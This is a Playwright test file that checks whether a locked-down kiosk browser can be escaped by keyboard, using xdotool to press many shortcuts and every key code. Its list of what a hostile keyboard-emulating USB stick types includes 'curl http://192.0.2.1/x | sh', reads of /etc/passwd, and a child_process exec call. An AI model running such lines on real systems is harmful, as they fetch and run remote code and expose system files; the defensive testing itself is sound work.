/** By keyboard: somebody plugged one in, or a stick that pretends to be one. */
import { expect, test } from '@playwright/test';
import { type Attempt, tryToEscape } from './attempts.ts';
import { missingTools, openScene, type Scene } from './scene.ts';

const press =
  (...keys: readonly string[]) =>
  ({ x }: Scene): void => {
    x('xdotool', 'key', '--clearmodifiers', '--delay', '20', ...keys);
  };

const KEYS: readonly (readonly [string, readonly string[]])[] = [
  ['K01', ['ctrl+r', 'ctrl+shift+r']],
  ['K02', ['F5', 'ctrl+F5']],
  ['K03', ['ctrl+shift+i']],
  ['K03b', ['ctrl+shift+j', 'ctrl+shift+c', 'ctrl+shift+k']],
  ['K04', ['F12']],
  ['K05', ['ctrl+w', 'ctrl+F4']],
  ['K06', ['ctrl+q']],
  ['K07', ['alt+F4']],
  ['K08', ['F11', 'shift+F11']],
  ['K09', ['Escape', 'Escape', 'Escape']],
  ['K10', ['ctrl+m', 'super+m', 'super+d']],
  ['K11', ['ctrl+plus', 'ctrl+shift+plus', 'ctrl+KP_Add', 'ctrl+equal']],
  ['K12', ['ctrl+minus', 'ctrl+KP_Subtract']],
  ['K13', ['ctrl+p', 'ctrl+shift+p']],
  ['K14', ['ctrl+o']],
  ['K15', ['ctrl+n', 'ctrl+shift+n']],
  ['K16', ['ctrl+t', 'ctrl+shift+t']],
  ['K17', ['ctrl+s']],
  ['K18', ['ctrl+u']],
  ['K19', ['ctrl+h', 'ctrl+j', 'ctrl+shift+Delete']],
  ['K20', ['ctrl+f', 'F3', 'ctrl+g']],
  ['K21', ['alt', 'alt+space']],
  ['K22', ['F10']],
  ['K23', ['alt+Left', 'alt+Right', 'XF86Back', 'XF86Forward', 'BackSpace']],
  ['K24', ['shift+Escape']],
  ['K25', ['ctrl+l', 'alt+d', 'F6', 'ctrl+k', 'ctrl+e']],
  ['K26', ['Menu']],
  ['K27', ['shift+F10']],
  ['K28', ['Print', 'alt+Print', 'shift+Print']],
  ['K29', ['alt+Tab', 'alt+shift+Tab', 'ctrl+Tab', 'ctrl+Page_Down', 'ctrl+1', 'ctrl+9']],
  ['K30', ['super', 'super+l', 'super+e', 'super+r', 'super+Tab']],
  ['K31', ['ctrl+alt+Delete', 'ctrl+alt+BackSpace', 'ctrl+Escape', 'ctrl+shift+Escape']],
  ['K32', ['ctrl+alt+F1', 'ctrl+alt+F2', 'ctrl+alt+F12', 'alt+F1', 'alt+F2']],
  ['K33', ['F7']],
  ['K34', ['ctrl+shift+w', 'ctrl+shift+q']],
  ['K35', ['XF86HomePage', 'XF86Mail', 'XF86WWW', 'XF86Search', 'XF86Calculator', 'XF86Explorer']],
  ['K35b', ['XF86AudioMedia', 'XF86MyComputer', 'XF86Favorites', 'XF86PowerOff', 'XF86Sleep', 'XF86Eject']],
  ['K36', ['shift', 'shift', 'shift', 'shift', 'shift', 'shift']],
  ['K39', ['ctrl+a', 'ctrl+c', 'ctrl+x', 'ctrl+v', 'ctrl+z']],
  ['K40', ['ctrl+shift+o', 'ctrl+d', 'ctrl+shift+b', 'ctrl+shift+a', 'ctrl+shift+m']],
  ['K41', ['F1', 'F2', 'F4', 'F8', 'F9']],
  ['K42', ['ctrl+0', 'ctrl+KP_0']],
];

const single: readonly Attempt[] = KEYS.map(([id, keys]) => ({
  id,
  what: keys.join(' '),
  make: press(...keys),
}));

/** What scripts for sticks that pretend to be keyboards type first. */
const SCRIPTS: readonly (readonly [string, readonly string[], string])[] = [
  ['K38a', ['super+r'], 'cmd /c calc'],
  ['K38b', ['ctrl+alt+t'], 'curl http://192.0.2.1/x | sh'],
  ['K38c', ['alt+F2'], 'xterm'],
  ['K38d', ['super+space'], 'terminal'],
  ['K38e', ['ctrl+l'], 'file:///etc/passwd'],
  ['K38f', ['F6', 'ctrl+l'], 'javascript:alert(1)'],
  ['K38g', ['ctrl+shift+i', 'ctrl+shift+j'], 'require("child_process").exec("id")'],
  ['K38h', ['ctrl+o'], '/etc/passwd'],
];

const scripts: readonly Attempt[] = SCRIPTS.map(([id, keys, text]) => ({
  id,
  what: `a hostile stick types ${keys.join(' ')} and “${text}”`,
  make: (scene) => {
    press(...keys)(scene);
    scene.x('xdotool', 'type', '--delay', '2', text);
    press('Return')(scene);
  },
}));

const LONG = process.env['RENKEI_LONG'] === '1';
const MODIFIERS = ['', 'shift', 'ctrl', 'alt', 'super', 'ctrl+shift', 'ctrl+alt', 'alt+shift'];
/** X key codes; each with each combination of modifiers in the long form, in the short form with one of them. */
const CODES = Array.from({ length: 248 }, (_, i) => i + 8);

const everyKey: readonly Attempt[] = MODIFIERS.map((modifier, m) => ({
  id: `K37${'abcdefgh'[m]}`,
  what: `key codes with ${modifier || 'no modifier'}`,
  make: ({ x }) => {
    const codes = LONG ? CODES : CODES.filter((code) => code % MODIFIERS.length === m);
    const held = modifier === '' ? [] : modifier.split('+');
    for (let at = 0; at < codes.length; at += 40) {
      x(
        'xdotool',
        ...held.flatMap((key) => ['keydown', key]),
        ...codes.slice(at, at + 40).flatMap((code) => ['key', '--delay', '5', String(code)]),
        ...held.flatMap((key) => ['keyup', key]),
      );
    }
  },
}));

tryToEscape('by keyboard', [
  ...single,
  {
    id: 'K36b',
    what: 'Shift held for nine seconds (slow keys)',
    make: async ({ x }) => {
      x('xdotool', 'keydown', 'shift');
      await new Promise((resolve) => setTimeout(resolve, 9_000));
      x('xdotool', 'keyup', 'shift');
    },
  },
  ...scripts,
  ...everyKey,
]);

test('keys do arrive: an attempt that reaches nobody proves nothing', async () => {
  test.skip(missingTools() !== null, missingTools() ?? '');
  const scene = await openScene();
  try {
    await scene.started.page.evaluate(() => {
      addEventListener('keydown', ({ key }) => document.body.setAttribute('data-heard', key), true);
    });
    scene.x('xdotool', 'key', 'a');
    await expect.poll(() => scene.started.page.evaluate(() => document.body.dataset['heard'])).toBe('a');
  } finally {
    await scene.stop();
  }
});
